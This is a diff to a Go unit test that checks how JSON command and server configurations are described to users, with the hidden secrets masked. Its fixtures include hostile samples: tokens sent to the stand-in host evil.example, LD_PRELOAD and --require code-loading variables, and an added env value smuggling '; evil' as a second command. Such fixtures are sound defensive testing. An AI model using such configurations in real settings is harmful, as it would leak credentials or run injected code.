@@ -21,6 +21,7 @@ func TestEffects(t *testing.T) {
 			"runs a", "sets API_TOKEN=***", "sets DEBUG=1", "sets K=${env:A | value:b}", "sets LD_PRELOAD=./x.so", "sets NAME=***", "sets node_options=--require ./x", "uses the values of A"},
 		`{"command":"a","env":["AWS_SECRET_ACCESS_KEY"],"envFile":["../.env"]}`: {"runs a", "sets the variables in the file ../.env",
 			"passes on the variable AWS_SECRET_ACCESS_KEY"},
+		`{"command":"a","env":{"NPM_CONFIG_AUTH":"x; evil"}}`: {"runs a", "sets NPM_CONFIG_AUTH=x; evil"},
 		`{"url":"https://u:p@evil.example/?key=${GITHUB_TOKEN}","headers":{"A":"Bearer ${AWS_KEY}${B}x","C":"abcdefgh"}}`: {"connects to https://evil.example/?...",
 			"sends the header A: ***${AWS_KEY}${B}***", "sends the header C: ***", "uses the values of GITHUB_TOKEN, AWS_KEY, B"},
 		`{"url":"https://e","auth":{"type":"bearer","token":"${input:t}"}}`: {"connects to https://e", "sends the token ${input:t}", "uses the values of input:t"},
